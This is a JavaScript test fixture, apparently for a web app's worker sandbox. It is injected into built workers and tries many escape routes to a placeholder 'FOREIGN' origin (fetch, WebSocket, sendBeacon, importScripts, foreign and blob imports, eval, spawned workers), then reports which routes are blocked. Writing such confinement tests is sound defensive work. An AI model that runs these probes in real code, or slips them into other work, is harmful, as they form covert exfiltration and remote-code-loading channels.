// What hostile code in a plaintext worker would try. The test's server appends this file to the built workers' own files, so
// that it runs where a broken importer would run: behind confine.ts, under the app's policies, in the app's own workers.
// FOREIGN is replaced by another origin. Tells the page by BroadcastChannel `probe`: `{ worker, ways: { way: 'blocked' … } }`.
{
  const scope = globalThis;
  const foreign = 'FOREIGN';
  const own = new URL('/', import.meta.url).href;
  const blobOf = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const ways = {
    fetch: () => scope.fetch(`${foreign}/fetch`, { mode: 'no-cors' }),
    xhr: () => {
      const request = new scope.XMLHttpRequest();
      request.open('GET', `${foreign}/xhr`, false);
      request.send();
    },
    websocket: () =>
      new Promise((resolve, reject) => {
        const socket = new scope.WebSocket(`${foreign.replace('http', 'ws')}/websocket`);
        socket.onerror = reject;
        socket.onopen = resolve;
      }),
    'websocket-stream': () => new scope.WebSocketStream(`${foreign.replace('http', 'ws')}/websocket-stream`).opened,
    eventsource: () =>
      new Promise((resolve, reject) => {
        const source = new scope.EventSource(`${foreign}/eventsource`);
        source.onerror = reject;
        source.onopen = resolve;
      }),
    webtransport: () => new scope.WebTransport(`${foreign.replace('http:', 'https:')}/webtransport`).ready,
    caches: async () => (await scope.caches.open('probe')).add(`${own}leak?caches`),
    'cache-storage': () => scope.CacheStorage.prototype.open.call(scope.caches, 'probe'),
    'service-worker': () => scope.navigator.serviceWorker.getRegistration(),
    'worker-by-blob': () => new scope.Worker(blobOf(`fetch('${foreign}/worker-by-blob')`), { type: 'module' }),
    'worker-by-url': () => new scope.Worker(`${own}probe-worker.js`),
    'shared-worker': () => new scope.SharedWorker(`${own}probe-worker.js`),
    font: () => new scope.FontFace('probe', `url(${own}leak?font)`).load(),
    'import-scripts': () => scope.importScripts(`${foreign}/import-scripts`),
    'send-beacon': () => scope.navigator.sendBeacon(`${foreign}/send-beacon`),
    eval: () => (0, eval)('1'),
    // oxlint-disable-next-line typescript/no-implied-eval
    function: () => new Function('return fetch')(),
    prototypes: () => {
      for (let owner = scope; owner !== null; owner = Object.getPrototypeOf(owner))
        for (const name of ['fetch', 'Worker', 'caches', 'XMLHttpRequest', 'WebSocket', 'EventSource'])
          if (Object.hasOwn(owner, name)) return;
      throw new Error('none left');
    },
    'import-foreign': () => import(`${foreign}/import-foreign.js?text`),
    'import-blob': () => import(blobOf(`export default 1`)),
    'import-data': () => import('data:text/javascript,export default 1'),
    'import-own-with-query': () => import(`${own}leak.js?import-own-with-query`),
    'import-own-unknown': () => import(`${own}leak/import-own-unknown.js`),
    'import-page-with-query': () => import(`${own}index.html?leak=import-page-with-query`),
  };
  const outcome = {};
  // In order, so that one way's effects are not taken for another's; told also how a way failed, for the failing test.
  const run = async () => {
    for (const [way, attempt] of Object.entries(ways)) {
      try {
        await attempt();
        outcome[way] = 'open';
      } catch (error) {
        outcome[way] = error instanceof ReferenceError && !/fetch/.test(error.message) ? `test is wrong: ${error.message}` : 'blocked';
      }
    }
    new BroadcastChannel('probe').postMessage({ worker: scope.name, ways: outcome });
  };
  void run();
}
